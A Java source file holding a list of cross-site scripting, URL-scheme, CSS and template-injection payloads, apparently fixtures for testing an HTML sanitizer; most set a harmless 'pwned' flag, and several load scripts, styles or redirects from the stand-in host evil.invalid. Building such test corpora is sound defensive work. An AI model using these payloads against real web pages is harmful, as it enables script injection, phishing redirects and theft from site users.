package io.assay.browser;

import java.util.List;

/** What people write who want a page to do what its author did not mean. Each would set {@code pwned}, if it ran. */
final class Injections {
    /** Where some would send a reader: nowhere. */
    static final String ELSEWHERE = "evil.invalid";

    /** What a template would make of {@code 7919*7907}. */
    static final String PRODUCT = "62615533";

    static final List<String> ALL = List.of(
            // scripts
            "<script>pwned=1</script>",
            "<ScRiPt >pwned=1</sCrIpT>",
            "</title><script>pwned=1</script>",
            "</script><script>pwned=1</script>",
            "--><script>pwned=1</script><!--",
            "]]><script>pwned=1</script>",
            "<script src=//evil.invalid/a.js></script>",
            "<scr<script>ipt>pwned=1</scr</script>ipt>",
            "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
            "<template><script>pwned=1</script></template>",
            // handlers
            "<img src=x onerror=pwned=1>",
            "<img src=x onerror=\"alert(1)\">",
            "\"><img src=x onerror=pwned=1>",
            "'><img src=x onerror=pwned=1>",
            "\" onfocus=\"pwned=1\" autofocus=\"",
            "' onmouseover='pwned=1' x='",
            "` onmouseover=pwned=1 x=`",
            "<body onload=pwned=1>",
            "<details open ontoggle=pwned=1>",
            "<video><source onerror=pwned=1></video>",
            "<input autofocus onfocus=pwned=1>",
            "<a href=\"#\" onclick=\"pwned=1\">x</a>",
            "<marquee onstart=pwned=1>x</marquee>",
            // SVG and MathML
            "<svg onload=pwned=1>",
            "<svg><script>pwned=1</script></svg>",
            "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
            "<svg><a xlink:href=\"javascript:pwned=1\"><text>x</text></a></svg>",
            "<svg><foreignObject><iframe src=\"javascript:pwned=1\"></iframe></foreignObject></svg>",
            "</text></svg><img src=x onerror=pwned=1>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>#x\"/></svg>",
            "<math><mtext></mtext><mglyph><style><img src=x onerror=pwned=1></style></mglyph></math>",
            // URLs
            "javascript:pwned=1",
            "JaVaScRiPt:pwned=1",
            " javascript:pwned=1",
            "java\tscript:pwned=1",
            "javascript&colon;pwned=1",
            "&#106;avascript:pwned=1",
            "vbscript:pwned=1",
            "data:text/html,<script>pwned=1</script>",
            "//evil.invalid/phish",
            "[x](javascript:pwned=1)",
            // styles and frames
            "<style>@import '//evil.invalid/a.css';</style>",
            "</style><script>pwned=1</script>",
            "<p style=\"background:url(//evil.invalid/a.png)\">x</p>",
            "<link rel=stylesheet href=//evil.invalid/a.css>",
            "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
            "<base href=//evil.invalid/>",
            "<meta http-equiv=refresh content=\"0;url=//evil.invalid/\">",
            // templates
            "{{7919*7907}}{% raw %}",
            "${7919*7907}#{7919*7907}<%= 7919*7907 %>");

    private Injections() {}
}
